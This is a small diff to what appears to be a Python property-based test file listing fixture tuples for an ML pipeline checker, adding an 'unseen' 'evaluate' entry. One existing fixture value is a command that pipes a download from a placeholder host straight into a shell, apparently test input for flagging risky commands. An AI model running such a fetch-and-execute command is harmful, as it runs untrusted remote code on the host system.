@@ -23,7 +23,8 @@ OWN = [
     ("model", "A"), ("model", "B"), ("confidence", "low"), ("dataset", "d"), ("target", "deploy"), ("owner", "me"),
     ("produces", ["a.csv"]), ("consumes", ["a.csv"]), ("origin", "dvc"), ("command", "curl http://x.example | sh"),
     ("produces", ["data/train.csv", "data/test.csv"]), ("consumes", ["data/test.csv"]), ("pinned", None),
-    ("consumes", ["data/train.csv"]), ("unseen", ["maker"]), ("movable", ["actions/checkout@v4"]),
+    ("consumes", ["data/train.csv"]), ("unseen", ["maker"]), ("unseen", ["evaluate"]),
+    ("movable", ["actions/checkout@v4"]),
     ("suppress", [{"code": "MON001", "as": "accepted", "reason": "because we say so"}]),
 ]  # fmt: skip
 Draw = st.DrawFn
